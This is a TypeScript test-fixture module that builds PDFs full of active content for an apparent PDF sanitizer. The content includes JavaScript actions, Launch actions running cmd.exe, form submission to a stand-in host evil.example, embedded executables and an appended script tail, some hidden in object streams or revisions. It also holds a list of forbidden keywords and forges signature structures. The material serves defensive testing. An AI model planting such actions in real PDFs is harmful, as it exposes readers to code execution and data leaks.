import { inflateSync } from 'node:zlib';

import { packedPdf, pdfOf, pdfStream, revisedPdf } from './pdf.ts';
import { paper, paperObjects } from './photos.ts';

/** The text that people read in each of these papers. */
export const READ_TEXT = 'Biên bản bàn giao';
/** Words that no paper may be handed out with; each stands in a part of its own. */
export const PLANTED = [
  'JavaScript',
  'Launch',
  'SubmitForm',
  'ImportData',
  'GoToR',
  'GoToE',
  'RichMedia',
  'XFA',
  'EmbeddedFile',
  'FileAttachment',
  'Filespec',
  'cmd.exe',
  'MZ-chuong-trinh',
  'evil.example',
  'app.alert',
  'ghi-bang-xfa',
  'Nguyen Van Tac Gia',
  'Nguyen Van Ghi Chu',
  'xmp-tac-gia',
  'exif-vi-tri',
  'ban-truoc',
  '<script>',
];

const ACTIONS = [
  '/S /JavaScript /JS (app.alert\\(1\\))',
  '/S /J#61vaScript /JS (app.alert\\(1\\))',
  '/S /Launch /F << /Type /Filespec /F (cmd.exe) >>',
  '/S /SubmitForm /F << /FS /URL /F (https://evil.example) >>',
  '/S /ImportData /F (cmd.exe)',
  '/S /GoToR /F (cmd.exe) /D [0 /Fit]',
  '/S /GoToE /T << /R /C /N (cmd.exe) >> /D [0 /Fit]',
  '/S /URI /URI (https://evil.example)',
];
const RECT = '/Rect [10 10 60 30]';
const annotations = ACTIONS.map(
  (action) => `<< /Type /Annot /Subtype /Link ${RECT} /A << /Type /Action ${action} >> >>`,
);

/** JPEG of nothing, with the place of a telephone in its EXIF. */
const PICTURE = Buffer.concat([
  Buffer.from([0xff, 0xd8, 0xff, 0xe1, 0, 2 + 17]),
  Buffer.from('Exif\0\0exif-vi-tri'),
  Buffer.from([0xff, 0xda, 0, 2, 0x11, 0x22, 0xff, 0xd9]),
]);

/** The objects of a paper with everything that acts, carries or tells, written in several ways. */
function harmfulObjects(): (string | Buffer)[] {
  const objects = paperObjects(READ_TEXT);
  const [, , page = ''] = objects;
  objects[0] =
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R /AA << /WC 9 0 R >> /Metadata 10 0 R /AF [11 0 R] /Names << /JavaScript << /Names [(a) 9 0 R] >> /EmbeddedFiles << /Names [(a.exe) 11 0 R] >> >> /AcroForm << /Fields [14 0 R] /XFA 13 0 R >> /Outlines 15 0 R >>';
  objects[2] = String(page)
    .replace('/Font <<', '/XObject << /AA 17 0 R >> /Font <<')
    .replace(
      />>$/,
      `/AA << /O 9 0 R >> /Annots [${annotations.join(' ')}
      << /Type /Annot /Subtype /Link ${RECT} /A << /S /GoTo /D [3 0 R /Fit] /Next [9 0 R] >> >>
      << /Type /Annot /Subtype /FileAttachment ${RECT} /FS 11 0 R >>
      << /Type /Annot /Subtype /RichMedia ${RECT} /RichMediaContent << /Assets << /Names [(a) 11 0 R] >> >> >>
      << /Type /Annot /Subtype /Text ${RECT} /T (Nguyen Van Ghi Chu) /M (D:20260101) /Contents (Xem lai trang nay) >>
      14 0 R] >>`,
    );
  return [
    ...objects,
    '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) /Next << /S /Launch /F (cmd.exe) >> >>',
    pdfStream('<x:xmpmeta>xmp-tac-gia</x:xmpmeta>', '/Type /Metadata /Subtype /XML'),
    '<< /Type /Filespec /F (cmd.exe) /EF << /F 12 0 R >> >>',
    pdfStream('MZ-chuong-trinh', '/Type /EmbeddedFile'),
    pdfStream('<xdp>ghi-bang-xfa</xdp>'),
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (so_van_ban) /V (12) ${RECT} /A 9 0 R /AA << /K 9 0 R >> >>`,
    '<< /Type /Outlines /First 16 0 R /Last 16 0 R /Count 1 >>',
    '<< /Title (Muc mot) /Parent 15 0 R /A << /S /Launch /F (cmd.exe) >> >>',
    pdfStream(PICTURE, '/Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode'),
    '<< /Author (Nguyen Van Tac Gia) /Producer (ban-truoc) >>',
  ];
}

const INFO = '/Info 18 0 R';
const TAIL = Buffer.from('<html><script>alert(1)</script></html>');
const withTail = (bytes: Uint8Array) => new Uint8Array(Buffer.concat([bytes, TAIL]));

/** Papers of one page with {@link READ_TEXT}, each with harmful parts laid in another way. */
export const HARMFUL_PAPERS: Readonly<Record<string, () => Uint8Array<ArrayBuffer>>> = {
  'as plain objects, with a page of the web at its end': () =>
    withTail(pdfOf(harmfulObjects(), INFO)),
  'packed into an object stream': () => packedPdf(harmfulObjects(), INFO),
  'in a revision that another one hides': () => {
    const objects = harmfulObjects();
    const [root = '', , page = ''] = paperObjects(READ_TEXT);
    return revisedPdf(pdfOf(objects, INFO), [
      [1, root],
      [3, page],
    ]);
  },
  'in a revision over a harmless paper': () =>
    revisedPdf(
      paper(READ_TEXT),
      harmfulObjects().map((object, place) => [place + 1, object] as const),
      INFO,
    ),
};

/** Everything that a PDF says: its bytes, and each stream unpacked; `#41` in a name is read as it is meant. */
export function sayingsOf(bytes: Uint8Array): string {
  const text = Buffer.from(bytes).toString('latin1');
  const streams = [...text.matchAll(/stream\r?\n([\s\S]*?)endstream/g)].map(([, packed = '']) => {
    try {
      return inflateSync(Buffer.from(packed, 'latin1')).toString('latin1');
    } catch {
      return '';
    }
  });
  return [text, ...streams]
    .join('\n')
    .replaceAll(/#([\da-f]{2})/gi, (_, code: string) =>
      String.fromCharCode(Number.parseInt(code, 16)),
    );
}

/** The objects of a paper with a digital signature: number 9 holds it, 10 shows where it was signed. */
function signedObjects(lines: readonly string[], more: string): [number, string | Buffer][] {
  const objects = paperObjects(...lines).map((object, place): [number, string | Buffer] => [
    place + 1,
    object,
  ]);
  const signature = '3082'.padEnd(400, '0');
  objects[0] = [
    1,
    `<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [10 0 R] /SigFlags 3 >> ${more} >>`,
  ];
  return [
    ...objects,
    [
      9,
      `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 1111111111 2222222222 3333333333] /Contents <${signature}> >>`,
    ],
    [
      10,
      '<< /Type /Annot /Subtype /Widget /FT /Sig /T (Chu ky 1) /V 9 0 R /Rect [0 0 0 0] /P 3 0 R >>',
    ],
    [11, '<< /Author (Van thu UBND) >>'],
  ];
}

/**
 * A paper with a digital signature around its bytes: built as one, but not by anybody's key.
 * @param options.before an earlier revision; `more` stands in its root
 */
export function signedPaper(
  lines: readonly string[],
  { more = '', before }: { more?: string; before?: Uint8Array } = {},
): Uint8Array<ArrayBuffer> {
  const objects = signedObjects(lines, more);
  const plain =
    before === undefined
      ? pdfOf(
          objects.map(([, object]) => object),
          '/Info 11 0 R',
        )
      : revisedPdf(before, objects, '/Info 11 0 R');
  const text = Buffer.from(plain).toString('latin1');
  const gap = text.indexOf('<3082');
  const rest = text.indexOf('>', gap) + 1;
  const numbers = [gap, rest, text.length - rest];
  let filled = text;
  for (const [place, number] of numbers.entries()) {
    filled = filled.replace(String(place + 1).repeat(10), String(number).padEnd(10));
  }
  return new Uint8Array(Buffer.from(filled, 'latin1'));
}
